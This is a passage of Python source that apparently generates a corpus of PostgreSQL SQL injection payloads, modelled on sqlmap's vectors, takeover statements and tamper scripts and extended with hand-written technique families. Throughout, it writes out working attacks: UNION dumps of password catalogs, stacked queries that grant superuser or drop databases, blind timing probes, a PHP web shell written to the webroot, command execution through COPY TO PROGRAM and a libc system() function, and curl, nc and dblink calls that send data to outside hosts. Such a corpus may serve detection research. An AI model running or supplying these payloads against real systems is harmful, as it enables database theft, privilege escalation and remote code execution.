            (TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "cond", 1, "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, T, S), False),
            (TB, "Oracle AND time-based blind", "Oracle", "cond", 1, "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chrs(S)[1:-1], T), False),
            (EB, "MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "MySQL", "cond", 1,
             "AND GTID_SUBSET(CONCAT(%s,(SELECT (ELT(%d=%d,1))),%s),%d)" % (hx(m1), R1, R1, hx(m2), R), False),
            (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONVERT)", "Microsoft SQL Server", "cond", 1,
             "AND %d=CONVERT(INT,(SELECT CHAR(%d)+CHAR(%d)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(%d)))" % (R, ord(m1[0]), ord(m1[1]), R1, R1, ord(m2[0])), False),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (comment)", "Microsoft SQL Server", "stack", 1, ";WAITFOR DELAY '0:0:%d'" % T, True),
            (SQ, "MySQL >= 5.0.12 stacked queries (comment)", "MySQL", "stack", 1, ";SELECT SLEEP(%d)" % T, True)]
    return [(f, t, d, p, w, pl, c, tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """Statements sqlmap stacks for --os-cmd, --file-read, --file-write and --udf-inject on PostgreSQL."""
    oid = r.randint(10000, 65000)
    lib = "/tmp/libs%s.so" % rword(r, 4)
    cmd, f = r.choice(CMDS), r.choice(FILES)
    tbl = "sqlmap" + r.choice(["output", "file", "filehex"])
    return r.choice([
        ("--os-cmd (output table)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data text)" % (tbl, tbl)),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY %s(data) FROM PROGRAM '%s'" % (tbl, cmd.replace("'", "''"))),
        ("--os-cmd (read output)", ";SELECT string_agg(data,CHR(10)) FROM %s" % tbl),
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (chrs(f), oid)),
        ("--file-read (pg_largeobject)", ";INSERT INTO %s(data) SELECT encode(data,'hex') FROM pg_largeobject WHERE loid=%d" % (tbl, oid)),
        ("--file-write (lo_create)", ";SELECT lo_unlink(%d);SELECT lo_create(%d)" % (oid, oid)),
        ("--file-write (pg_largeobject)", ";INSERT INTO pg_largeobject VALUES (%d,0,DECODE('f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA','base64'))" % oid),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,'%s')" % (oid, lib)),
        ("--udf-inject (sys_eval)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '%s','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % lib),
        ("--udf-inject (sys_exec)", ";CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int4 AS '%s','sys_exec' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % lib),
        ("--os-cmd (sys_eval)", ";SELECT sys_eval('%s')" % cmd.replace("'", "''")),
        ("--cleanup", ";DROP FUNCTION IF EXISTS sys_eval(text);DROP TABLE IF EXISTS %s" % tbl)])


def sqlmap_union(r, vector):
    """(title, dbms, payload, where): the UNION query technique: ORDER BY probing, NULL counting, the marker arm, a dump."""
    n, pos, filler, cols, kw, rng, where = union_request(r, 12, 5, 5, 0.35)
    x = r.randrange(10)
    if x == 0:
        return "Generic UNION query - ORDER BY technique", "generic", "ORDER BY %d" % r.randint(1, 25), 1
    if x in (1, 2) and not vector:
        return "Generic UNION query (%s) - %s columns" % ("NULL" if filler == "NULL" else "random number", rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    m1, m2, m3 = chrs(marker(r)), chrs(marker(r)), chrs(marker(r))
    if x == 3 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns (marker)" % ("NULL" if filler == "NULL" else "random number", rng), PG, "%s %s" % (kw, ",".join(cols)), where
    if x == 4:
        cols[pos] = "%s||%s||%s" % (m1, safe_cast(r.choice(["VERSION()", "CURRENT_USER", "CURRENT_SCHEMA()", "INET_SERVER_ADDR()"])), m2)
        return "Generic UNION query - %s columns (banner)" % rng, PG, "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user", ["usename", "usesuper", "usecreatedb"]), ("pg_database", ["datname"]),
                    ("pg_tables", ["schemaname", "tablename"]), ("pg_stat_activity", ["usename", "query"]), ("pg_roles", ["rolname"])]
                   + [("public." + t, c) for t, c in sorted(DUMP_TABLES.items())])
    cols[pos] = marked([safe_cast(c) for c in src[1]], m1, m3, m2)
    tail = " OFFSET %d LIMIT 1" % r.randint(0, 20) if r.random() < 0.4 else ""
    return "Generic UNION query - %s columns (dump %s)" % (rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- " + rstr(r)] * 6 + ["--", "-- -"])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value sqlmap sends: [value][prefix] [payload] [suffix],
    with one of its boundaries (mostly, but not always, one that fits)."""
    typ, cl = si["type"], si["closers"]
    if "[ORIGVALUE]" in payload:
        payload = payload.replace("[ORIGVALUE]", orig if typ in ("n", "list", "bool") else "1")
    if where == 2:
        orig = "-%d" % randnum(r) if typ not in ("col", "dir", "ident") else orig
    k = len(cl) if r.random() < 0.85 else r.choice([0, 1, 2])
    S = rstr(r)
    cmt = sqlmap_comment(r)
    if typ in ("q", "e", "qi", "d"):
        qc = '"' if typ == "qi" else "'"
        if place == "order":
            return None
        if place == "repl":
            if typ == "qi" or r.random() < 0.4:
                return payload                   # harmless inside the literal; dropped later
            return qc + "||" + payload + "||" + qc
        lk = si["like"] and r.random() < 0.5
        pre = orig + ("%" if lk and r.random() < 0.5 else "") + qc + ")" * k
        if place == "stack":
            return pre + payload + (cmt if need_comment or r.random() < 0.8 else "")
        if place == "union":
            return pre + " " + payload + cmt
        body = pre + " " + payload
        if need_comment:
            return body + cmt
        x = r.random()
        if typ in ("q", "e") and x < 0.08 and payload.startswith("AND "):
            return orig + qc + "||(SELECT %s%s%s WHERE %d=%d %s)||" % (qc, S, qc, randnum(r), randnum(r), payload) + qc
        if x < 0.55:
            if lk:
                return body + " AND " + "(" * k + "%s%%%s=%s" % (qc, qc, qc)
            return body + " AND " + "(" * k + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if x < 0.7:
            return body + " AND " + "(" * k + "%s%s%s LIKE %s%s" % (qc, S, qc, qc, S)
        return body + cmt
    if typ in ("n", "list", "bool"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        pre = orig + ")" * k
        if place == "stack":
            return pre + payload + (cmt if need_comment or k or r.random() < 0.6 else "")
        if place == "union":
            return pre + " " + payload + cmt
        body = pre + " " + payload
        if need_comment:
            return body + cmt
        if k and r.random() < 0.7:
            v = randnum(r)
            return body + " AND " + "(" * k + "%d=%d" % (v, v)
        if k or r.random() < 0.35:
            return body + cmt
        return body
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.3 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.7 else "")
        if place == "cond" and r.random() < 0.25:
            return orig + " " + payload + cmt
        return None
    if typ == "ident":
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
        if place == "cond" and si["from_table"]:
            return orig + " WHERE %d=%d " % ((lambda v: (v, v))(randnum(r))) + payload + cmt
        return None
    return None


# ---------------------------------------------------------------- editing typed text outside its literals (tampers, obfuscation)
KEYWORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE ILIKE IN EXISTS ORDER BY GROUP HAVING
LIMIT OFFSET INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DO BEGIN DECLARE EXECUTE PERFORM
NUMERIC INT INTEGER TEXT VARCHAR TRUE FALSE DISTINCT COUNT ASCII SUBSTRING SUBSTR LENGTH CHR PG_SLEEP GENERATE_SERIES VERSION CURRENT_USER
COALESCE CONCAT FOR OR REPLACE ALTER ROLE GRANT TO WITH SUPERUSER LOGIN PASSWORD TRUNCATE STRICT RAISE LOOP IF""".split())


def tamper(r, name, s, typ):
    """sqlmap tamper scripts (the ones that make sense on PostgreSQL)."""
    if name == "lowercase":
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: m.group(0).lower() if m.group(0).upper() in KEYWORDS else m.group(0), t))
    if name == "uppercase":
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: m.group(0).upper() if m.group(0).upper() in KEYWORDS else m.group(0), t))
    if name == "randomcomments":
        def rc(m):
            w = m.group(0)
            if w.upper() not in KEYWORDS or len(w) < 3:
                return w
            out = w[0]
            for ch in w[1:-1]:
                out += ("/**/" if r.random() < 0.4 else "") + ch
            return out + w[-1]
        return edit(s, typ, lambda t, i, n: re.sub(r"[A-Za-z_]+", rc, t))
    if name == "space2morecomment":
        return edit(s, typ, lambda t, i, n: t.replace(" ", "/**_**/"))
    if name == "multiplespaces":
        return edit(s, typ, lambda t, i, n: re.sub(r" ", lambda m: " " * r.randint(1, 4), re.sub(r"\b([A-Za-z_]+)\b", lambda m: (" " * r.randint(1, 3) + m.group(1) + " " * r.randint(1, 3)) if m.group(1).upper() in KEYWORDS else m.group(1), t)))
    if name == "informationschemacomment":
        return edit(s, typ, lambda t, i, n: re.sub(r"(?i)information_schema\.", lambda m: m.group(0)[:-1] + "/**/.", t))
    if name == "symboliclogical":
        return edit(s, typ, lambda t, i, n: re.sub(r"(?i)\s+AND\s+", " && ", re.sub(r"(?i)\s+OR\s+", " || ", t)))
    if name == "bluecoat":
        return edit(s, typ, lambda t, i, n: re.sub(r"(?<=[A-Za-z0-9_)'])\s*=\s*(?=[A-Za-z0-9_('])", " LIKE ", re.sub(r"(?i)\b(SELECT|UPDATE|INSERT|DELETE|FROM|WHERE) ", lambda m: m.group(1) + "\t", t)))
    if name == "space2mysqldash":
        return edit(s, typ, lambda t, i, n: t.replace(" ", "--\n"))
    if name == "nonrecursivereplacement":
        return edit(s, typ, lambda t, i, n: re.sub(r"(?i)\b(UNION|SELECT|INSERT|UPDATE|FROM|WHERE)\b", lambda m: m.group(0)[:len(m.group(0)) // 2] + m.group(0) + m.group(0)[len(m.group(0)) // 2:], t))
    raise KeyError(name)


TAMPERS = ["lowercase", "uppercase", "randomcomments", "space2morecomment", "multiplespaces", "informationschemacomment", "symboliclogical",
           "bluecoat", "space2mysqldash", "nonrecursivereplacement"]
SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=lambda si: si["lead"] == "SELECT" and not (si["in_order"] or si["in_limit"] or si["type"] in ("col", "dir")),
                           misfit=lambda r, si, place: False, vector_share=0.55, takeover_share=0.2, tamper_share=0.15)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | open (a clause whose last string the
# template's own quote closes) | stack (statements after ;) | union (a UNION
# or ORDER BY tail) | repl (a value in place of the input) | concat (spliced
# into the string with ||) | order (an extra ORDER BY expression) | raw (as is)
def secs(r):
    return r.choice([4, 5, 6, 8, 10, 12, 15, 30])


def hand_cores(r, fam):
    a, b = r.randint(2, 90), r.randint(91, 990)
    w = rword(r, r.randint(2, 5))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(5, 8))
    oid = r.randint(20000, 90000)
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_n_eq_n", "OR %d=%d" % (a, a)), ("or_two_gt_one", "OR 2>1"), ("or_str_concat", "OR 'pg'||'sql'='pgsql'"), ("or_typed_int", "OR int4 '%d'=%d" % (a, a)),
            ("or_true_cast", "OR 'true'::bool"), ("or_position", "OR position('%s' in '%s')>0" % (w[0], w)), ("or_in_subselect", "OR %d IN (SELECT %d)" % (a, a)),
            ("or_not_ne", "OR NOT (%d<>%d)" % (b, b)), ("or_isfinite", "OR isfinite(now())"), ("or_on_bool", "OR 'on'::boolean"),
            ("or_num_nonnulls", "OR num_nonnulls(%d)=1" % a), ("or_starts_with", "OR starts_with('%s','%s')" % (w, w[0])), ("or_select_true", "OR (SELECT true)"),
            ("or_bitstring", "OR B'101'=B'101'"), ("or_mod_zero", "OR %d %% 2 = 0" % (2 * a)), ("or_array_contains", "OR ARRAY[%d,%d] @> ARRAY[%d]" % (a, b, a)),
            ("or_similar", "OR '%s' SIMILAR TO '%s%%'" % (w, w[0])), ("or_quote_literal", "OR quote_literal('%s')=quote_literal('%s')" % (w, w)), ("or_pi", "OR pi()>3"),
            ("or_int_numeric", "OR %d=%d.0" % (a, a)), ("or_abs", "OR abs(-%d)=%d" % (a, a)), ("or_reverse", "OR reverse('%s')='%s'" % (w, w[::-1])),
            ("or_coalesce_true", "OR coalesce(NULL,true)"), ("or_length_md5", "OR length(md5('%s'))=32" % w), ("or_overlap", "OR int4range(1,%d) && int4range(0,2)" % b),
            ("or_jsonb_exists", "OR '{\"%s\":1}'::jsonb ? '%s'" % (w, w)), ("or_upper_lower", "OR upper('%s')=upper('%s')" % (w, w.upper())),
            ("or_ne_str", "OR '%s'<>'%s'" % (w, w + "x")), ("or_exists_values", "OR EXISTS(VALUES(1))"), ("or_between_sym", "OR %d BETWEEN SYMMETRIC %d AND 0" % (a, b)),
            ("or_is_not_false", "OR (1<2) IS NOT FALSE"), ("or_date_gt", "OR current_date > date '1970-01-01'"), ("or_row_eq", "OR ROW(%d,'%s')=ROW(%d,'%s')" % (a, w, a, w)),
            ("or_sign", "OR sign(%d)=1" % b), ("or_ilike_any", "OR '%s' ILIKE ANY(ARRAY['%%%s%%'])" % (w, w[-1]))]] + [
            (n, "open", c, PG) for n, c in [("open_str_eq", ("OR ", "'%s'='%s" % (w, w))), ("open_empty_eq", ("OR ", "''='")),
                                             ("open_ne", ("OR ", "'%s'!='%s" % (w, w + "q"))), ("open_true_then_str", ("OR true OR ", "'")),
                                             ("open_like", ("OR ", "'%s' LIKE '%%")), ("open_gt", ("OR ", "'b'>'a"))]]
    if fam == "union":
        n = r.randint(1, 5)
        pos = r.randrange(n)
        arms = [("settings", "name||'='||setting", " FROM pg_settings WHERE name IN ('data_directory','hba_file','log_directory')"),
                ("authid", "rolname||':'||coalesce(rolpassword,'')", " FROM pg_authid"), ("activity", "usename||' '||query", " FROM pg_stat_activity"),
                ("file_settings", "sourcefile||':'||name", " FROM pg_file_settings"), ("hba_rules", "type||' '||array_to_string(database,',')", " FROM pg_hba_file_rules"),
                ("extensions", "name||' '||coalesce(installed_version,'-')", " FROM pg_available_extensions"), ("routines", "routine_schema||'.'||routine_name",
                 " FROM information_schema.routines WHERE routine_schema NOT IN ('pg_catalog','information_schema')"),
                ("config_file", "current_setting('config_file')", ""), ("server_addr", "host(inet_server_addr())||':'||inet_server_port()", ""),
                ("loot", "%s||':'||%s" % (u, p), " FROM %s" % t), ("columns", "table_name||'.'||column_name", " FROM information_schema.columns WHERE column_name ILIKE '%%pass%%'"),
                ("roles_members", "r.rolname||'>'||m.rolname", " FROM pg_auth_members am JOIN pg_roles r ON r.oid=am.roleid JOIN pg_roles m ON m.oid=am.member"),
                ("views", "viewname||':'||definition", " FROM pg_views WHERE schemaname='public'"), ("user_mappings", "srvname||' '||array_to_string(umoptions,',')", " FROM pg_user_mappings"),
                ("subscriptions", "subname||' '||subconninfo", " FROM pg_subscription"), ("stat_ssl", "pid||' '||coalesce(client_dn,'')", " FROM pg_stat_ssl"),
                ("largeobjects", "loid::text", " FROM pg_largeobject_metadata"), ("version", "version()", ""), ("schemas", "nspname", " FROM pg_namespace")]
        name, ex, frm = r.choice(arms)
        kw = r.choice(["UNION SELECT", "UNION ALL SELECT", "union all select", "UNION DISTINCT SELECT"])
        return [("arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("alter_role_superuser", "ALTER ROLE %s SUPERUSER" % r.choice(["current_user", "app", "web"])), ("alter_role_bypassrls", "ALTER ROLE current_user BYPASSRLS"),
            ("alter_role_search_path", "ALTER ROLE %s SET search_path = %s, public" % (r.choice(["app", "web", "reporting"]), nm)),
            ("alter_role_password", "ALTER ROLE postgres WITH PASSWORD '%s'" % rword(r, 10)), ("create_login_role", "CREATE ROLE %s LOGIN SUPERUSER PASSWORD '%s'" % (nm, rword(r, 9))),
            ("grant_pg_write", "GRANT pg_write_server_files TO %s" % r.choice(["public", "app", "current_user"])), ("set_config_role", "SELECT set_config('role','postgres',false)"),
            ("set_session_auth", "SET SESSION AUTHORIZATION postgres"), ("drop_owned", "DROP OWNED BY %s CASCADE" % r.choice(["app", "reporting"])),
            ("default_privs", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC"), ("create_schema", "CREATE SCHEMA %s AUTHORIZATION current_user" % nm),
            ("publication_all", "CREATE PUBLICATION %s FOR ALL TABLES" % nm), ("subscription_exfil", "CREATE SUBSCRIPTION %s CONNECTION 'host=%s dbname=x' PUBLICATION p" % (nm, host)),
            ("alter_database_set", "ALTER DATABASE %s SET log_statement = 'none'" % r.choice(["postgres", "app", "current"])),
            ("truncate_cascade", "TRUNCATE %s CASCADE" % t), ("delete_all", "DELETE FROM %s" % t), ("update_secret", "UPDATE %s SET %s='%s'" % (t, p, rword(r, 12))),
            ("insert_account", "INSERT INTO %s(%s,%s) VALUES('%s','%s')" % (t, u, p, nm, rword(r, 10))),
            ("rule_backdoor", "CREATE RULE %s AS ON SELECT TO %s DO ALSO NOTIFY %s" % (nm, t, nm)),
            ("event_trigger", "CREATE EVENT TRIGGER %s ON ddl_command_start EXECUTE FUNCTION pg_catalog.pg_reload_conf()" % nm),
            ("terminate_others", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname=current_database() AND pid<>pg_backend_pid()"),
            ("cancel_backends", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state='active'"), ("checkpoint", "CHECKPOINT"),
            ("notify_leak", "SELECT pg_notify('%s',(SELECT string_agg(%s,',') FROM %s))" % (nm, p, t)), ("revoke_public", "REVOKE ALL ON SCHEMA public FROM PUBLIC"),
            ("fdw_extension", "CREATE EXTENSION IF NOT EXISTS postgres_fdw"), ("comment_plant", "COMMENT ON TABLE %s IS '%s'" % (t, rword(r, 6))),
            ("reset_role", "RESET ROLE; SET ROLE postgres"), ("set_config_statement_timeout", "SELECT set_config('statement_timeout','0',false)"),
            ("alter_table_owner", "ALTER TABLE %s OWNER TO %s" % (t, nm)), ("create_index_lock", "CREATE INDEX ON %s ((md5(%s)))" % (t, p)),
            ("drop_database", "DROP DATABASE IF EXISTS %s" % r.choice(["observatory", "wardrobe", "arcade", "kennel"])), ("vacuum_full_lock", "VACUUM FULL %s" % t)]]
    if fam == "boolean_blind":
        return [(n, "cond", c, PG) for n, c in [
            ("probe_target", "AND " + probe(r)), ("probe_target_or", "OR " + probe(r)), ("probe_login", "AND " + probe(r, "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who))),
            ("stat_activity_count", "AND (SELECT count(*) FROM pg_stat_activity)>%d" % r.randint(1, 30)),
            ("db_create_priv", "AND has_database_privilege(current_database(),'CREATE')"), ("ssl_on", "AND current_setting('ssl')='on'"),
            ("postgres_can_login", "AND (SELECT rolcanlogin FROM pg_roles WHERE rolname='postgres')"), ("regclass_exists", "AND to_regclass('public.%s') IS NOT NULL" % t),
            ("lo_export_present", "AND EXISTS(SELECT 1 FROM pg_proc WHERE proname='lo_export')"), ("port_probe", "AND inet_server_port()=%d" % r.choice([5432, 5433, 6432, 25060])),
            ("version_regex", "AND version() ~ '%s'" % r.choice(["Debian", "Ubuntu", "x86_64", "aarch64", "Red Hat", "musl"])),
            ("superuser_setting", "AND current_setting('is_superuser')::bool"), ("role_member", "AND pg_has_role('pg_read_server_files','member')"),
            ("column_guess", "AND EXISTS(SELECT %s FROM %s)" % (p, t)), ("table_priv", "AND has_table_privilege('%s','SELECT')" % t),
            ("schema_count", "AND (SELECT count(*) FROM pg_namespace WHERE nspname !~ '^pg_')>%d" % r.randint(1, 6)),
            ("ext_installed", "AND EXISTS(SELECT 1 FROM pg_extension WHERE extname='%s')" % r.choice(["dblink", "plpython3u", "adminpack", "postgres_fdw", "pgcrypto"])),
            ("login_length", "AND (SELECT length(%s) FROM %s WHERE %s='%s')=%d" % (p, t, u, who, r.choice([32, 40, 60, 64, 97]))),
            ("wal_level", "AND current_setting('wal_level')='%s'" % r.choice(["logical", "replica"])), ("tz_guess", "AND current_setting('TimeZone') ^@ '%s'" % r.choice(["Europe", "UTC", "America", "Asia"]))]]
    if fam == "time_pg_sleep":
        heavy = r.choice([8000000, 15000000, 40000000])
        return [
            ("case_sleep", "cond", "AND 1=(SELECT CASE WHEN %d>%d THEN 1 ELSE (SELECT 1 FROM pg_sleep(%d)) END)" % (a, b, s), PG),
            ("coalesce_sleep", "cond", "AND COALESCE(NULL,(SELECT pg_sleep(%d)))::text IS NOT NULL" % s, PG),
            ("subquery_sleep_from", "cond", "AND EXISTS(SELECT 1 FROM pg_sleep(%d))" % s, PG), ("sleep_in_series", "cond", "AND (SELECT count(pg_sleep(%d)) FROM generate_series(1,1))=1" % s, PG),
            ("sleep_for_interval", "cond", "OR pg_sleep_for('%d seconds'::interval) IS NULL" % s, PG),
            ("sleep_until", "stack", "SELECT pg_sleep_until(clock_timestamp() + interval '%d s')" % s, PG),
            ("cross_join_catalog", "cond", "AND (SELECT count(*) FROM pg_class a CROSS JOIN pg_class b CROSS JOIN pg_class c)>0", PG),
            ("heavy_series_md5", "cond", "AND (SELECT count(md5(g::text)) FROM generate_series(1,%d) g)>0" % heavy, PG),
            ("heavy_cross_series", "cond", "AND (SELECT count(*) FROM generate_series(1,%d) x, generate_series(1,%d) y)>0" % (r.choice([3000, 5000]), r.choice([3000, 5000])), PG),
            ("repeat_heavy", "cond", "AND length(repeat('%s',%d))>0" % (w, heavy * 10), PG), ("stack_sleep", "stack", "SELECT pg_sleep(%d)" % s, PG),
            ("stack_sleep_cast", "stack", "SELECT pg_sleep('%d'::float8)" % s, PG), ("value_sleep", "repl", "(SELECT %d FROM pg_sleep(%d))" % (a, s), PG),
            ("concat_sleep", "concat", "(SELECT pg_sleep(%d))::text" % s, PG), ("order_sleep", "order", "(SELECT 1 FROM pg_sleep(%d))" % s, PG),
            ("nullif_sleep", "cond", "AND NULLIF((SELECT pg_sleep(%d))::text,'x') IS NULL" % s, PG),
            ("greatest_sleep", "cond", "AND greatest(0,(SELECT 1 FROM pg_sleep(%d)))=1" % s, PG),
            ("lateral_sleep", "cond", "AND (SELECT 1 FROM (SELECT 1) x CROSS JOIN LATERAL pg_sleep(%d))=1" % s, PG),
            ("advisory_then_sleep", "stack", "SELECT pg_advisory_lock(%d); SELECT pg_sleep(%d)" % (oid, s), PG),
            ("sleep_array", "cond", "AND array_length(ARRAY[(SELECT pg_sleep(%d))::text],1)=1" % s, PG)]
    if fam == "error_cast":
        return [
            ("int_cast", "cond", "AND 1=(%s)::int" % e, PG), ("numeric_cast", "cond", "AND CAST((%s)::text AS numeric)=0" % e, PG),
            ("regclass_cast", "cond", "AND (%s)::text::regclass IS NULL" % e, PG), ("uuid_cast", "cond", "AND (%s)::text::uuid IS NULL" % e, PG),
            ("json_cast", "cond", "AND CAST((%s)::text AS json) IS NULL" % e, PG), ("jsonb_cast", "cond", "OR ((%s)::text)::jsonb IS NULL" % e, PG),
            ("date_cast", "cond", "AND (%s)::text::date IS NOT NULL" % e, PG), ("inet_cast", "cond", "AND (%s)::text::inet IS NULL" % e, PG),
            ("bool_cast", "cond", "AND (%s)::text::boolean" % e, PG), ("interval_cast", "cond", "AND (%s)::text::interval IS NULL" % e, PG),
            ("regproc_cast", "cond", "AND (%s)::text::regproc IS NULL" % e, PG), ("regrole_cast", "cond", "AND (%s)::text::regrole IS NULL" % e, PG),
            ("oid_cast", "cond", "AND (%s)::text::oid=0" % e, PG), ("macaddr_cast", "cond", "AND (%s)::text::macaddr IS NULL" % e, PG),
            ("tsquery_cast", "cond", "AND ('%s '||(%s)::text)::tsquery IS NULL" % (r.choice(["&", "|", "!("]), e), PG),
            ("bit_cast", "cond", "AND ('x'||(%s)::text)::bit(8) IS NULL" % e, PG), ("money_cast", "cond", "AND (%s)::text::money IS NULL" % e, PG),
            ("value_int", "repl", "CAST((%s)::text AS int)" % e, PG), ("concat_numeric", "concat", "CAST((%s)::text AS numeric)::text" % e, PG),
            ("order_int", "order", "CAST((%s)::text AS bigint)" % e, PG), ("xml_parse", "cond", "AND xmlparse(content '<'||(%s)::text) IS NULL" % e, PG),
            ("to_number", "cond", "AND to_number((%s)::text,'999')>0" % e, PG), ("make_date", "cond", "AND make_date((%s)::text::int,1,1) IS NULL" % e, PG),
            ("array_cast", "cond", "AND ('{'||(%s)::text)::int[] IS NULL" % e, PG), ("div_zero_probe", "cond", "AND 1/(CASE WHEN %s THEN 0 ELSE 1 END)=1" % probe(r), PG),
            ("raise_via_regex", "cond", "AND (%s)::text ~ ('(' || (%s)::text)" % (e, e), PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("copy_to_program_curl", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'curl -s -d @- http://%s/'" % (p, t, host)),
            ("copy_to_program_nc", "stack", "COPY (SELECT current_user) TO PROGRAM 'nc %s 9001'" % ip),
            ("copy_from_program_ping", "stack", "CREATE TEMP TABLE %s(l text); COPY %s FROM PROGRAM 'ping -c1 %s.%s'" % (nm, nm, nm, host)),
            ("copy_from_program_cmd", "stack", "COPY %s FROM PROGRAM '%s'" % (t, cmd.replace("'", "''"))),
            ("copy_to_webroot", "stack", "COPY (SELECT '<?php system($_GET[\"c\"]); ?>') TO '/var/www/html/%s.php'" % nm),
            ("read_file_missing_ok", "stack", "SELECT pg_read_file('%s',0,4096,true)" % f), ("read_binary_offset", "stack", "SELECT encode(pg_read_binary_file('%s',0,512),'escape')" % f),
            ("read_file_cond", "cond", "AND pg_read_file('%s') IS NOT NULL" % f), ("read_file_union", "union", "UNION SELECT pg_read_file('%s')" % f),
            ("lo_import_get", "stack", "SELECT lo_import('%s',%d); SELECT convert_from(lo_get(%d),'UTF8')" % (f, oid, oid)),
            ("lo_put_export", "stack", "SELECT lo_create(%d); SELECT lo_put(%d,0,'\\x7f454c46'::bytea); SELECT lo_export(%d,'/tmp/%s.so')" % (oid, oid, oid, nm)),
            ("loread_open", "stack", "SELECT loread(lo_open(%d,262144),8192)" % oid), ("lo_from_bytea", "stack", "SELECT lo_from_bytea(0,convert_to((SELECT string_agg(%s,',') FROM %s),'UTF8'))" % (p, t)),
            ("ls_logdir", "stack", "SELECT * FROM pg_ls_logdir()"), ("ls_waldir", "stack", "SELECT name FROM pg_ls_waldir() LIMIT 3"),
            ("ls_dir_concat", "concat", "(SELECT string_agg(x,' ') FROM pg_ls_dir('%s') x)" % r.choice(["/", "/etc", "/var/lib/postgresql", "/tmp"])),
            ("stat_file", "stack", "SELECT size, modification FROM pg_stat_file('%s')" % f),
            ("dblink_connect_leak", "stack", "SELECT dblink_connect('host=%s dbname=x user='||current_user||' password='||(SELECT %s FROM %s LIMIT 1))" % (host, p, t)),
            ("dblink_send_query", "stack", "SELECT dblink_send_query('host=%s dbname=d','SELECT 1')" % host),
            ("dblink_dns_cond", "cond", "AND (SELECT count(*) FROM dblink('host='||current_user||'.%s dbname=a','SELECT 1') AS x(i int))>0" % host),
            ("fdw_server", "stack", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s', dbname 'loot')" % (nm, host)),
            ("c_function_system", "stack", "CREATE FUNCTION %s(cstring) RETURNS int AS 'libc.so.6','system' LANGUAGE C STRICT; SELECT %s('%s')" % (nm, nm, cmd.replace("'", "''"))),
            ("adminpack_write", "stack", "SELECT pg_file_write('/tmp/%s.sh','%s',false)" % (nm, cmd.replace("'", "''"))),
            ("archive_command", "stack", "ALTER SYSTEM SET archive_command = '%s'; SELECT pg_reload_conf()" % cmd.replace("'", "''")),
            ("ssl_passphrase_cmd", "stack", "ALTER SYSTEM SET ssl_passphrase_command = 'sh -c \"%s\"'" % cmd.replace("'", "''").replace('"', '\\"')),
            ("read_file_substr_probe", "cond", "AND substr(pg_read_file('%s'),1,4)='root'" % f)]]
    if fam == "plpgsql_do_exec":
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_format", "DO $$BEGIN EXECUTE format('DROP TABLE %%I CASCADE','%s'); END$$" % t),
            ("do_perform_sleep", "DO $d$ BEGIN PERFORM pg_sleep(%d); END $d$" % s),
            ("do_loop_notify", "DO $$DECLARE x record; BEGIN FOR x IN SELECT %s, %s FROM %s LOOP PERFORM pg_notify('%s', x.%s||':'||x.%s); END LOOP; END$$" % (u, p, t, nm, u, p)),
            ("do_raise_notice_leak", "DO $$BEGIN RAISE NOTICE '%%', (SELECT string_agg(rolname||rolpassword,';') FROM pg_authid); END$$"),
